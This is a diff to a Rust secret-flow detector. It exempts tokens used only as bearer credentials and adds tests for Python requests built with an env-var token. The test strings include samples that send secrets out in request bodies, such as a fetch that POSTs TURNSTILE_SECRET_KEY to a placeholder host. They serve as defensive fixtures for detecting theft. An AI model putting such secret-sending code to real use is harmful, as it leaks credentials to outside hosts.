@@ -117,7 +117,13 @@ pub(super) fn secret_flows(code: &str, first_line: u32) -> Vec<(u32, &'static st
         }
         if let Some(c) = ASSIGN.captures(line) {
             let var = c[1].to_owned();
-            if !tainted.iter().any(|(v, _, _)| *v == var) {
+            // A request built with the secret as its credential (`Request(url, headers={'Authorization': f'Bearer
+            // {tok}'})`) carries it where an API call does: what is built is not the secret.
+            let only_as_credential = here.is_none()
+                && used.is_some_and(|(v, _, _)| {
+                    in_credential_field(line, v) && line.matches(v.as_str()).count() == 1
+                });
+            if !only_as_credential && !tainted.iter().any(|(v, _, _)| *v == var) {
                 tainted.push((var, source_line, what));
             }
         }
@@ -440,6 +446,16 @@ mod tests {
         assert!(secret_flows(verify, 1).is_empty());
         let stolen = "await fetch(U, { method: 'POST', body: 'k=' + process.env.TURNSTILE_SECRET_KEY });\n";
         assert!(!secret_flows(stolen, 1).is_empty());
+        // A request object built with the token as its bearer credential, sent later: an API call.
+        let client = "tok = os.environ.get('ACME_API_TOKEN')\nreq = urllib.request.Request('https://api.acme.test/v2',\n    headers={'Authorization': f'Bearer {tok}'})\nprint(urllib.request.urlopen(req).read())\n";
+        assert!(
+            secret_flows(client, 1).is_empty(),
+            "{:?}",
+            secret_flows(client, 1)
+        );
+        // The same token also in the body is sent out.
+        let both = "tok = os.environ.get('ACME_API_TOKEN')\nreq = urllib.request.Request(U, data=tok.encode(),\n    headers={'Authorization': f'Bearer {tok}'})\nurllib.request.urlopen(req)\n";
+        assert!(!secret_flows(both, 1).is_empty());
         for honest in [
             // Each key to its own client.
             "client = OpenAI(api_key=os.environ[\"OPENAI_API_KEY\"])\nother = Anthropic(api_key=os.environ[\"ANTHROPIC_API_KEY\"])\nprint(json.dumps(result))\n",
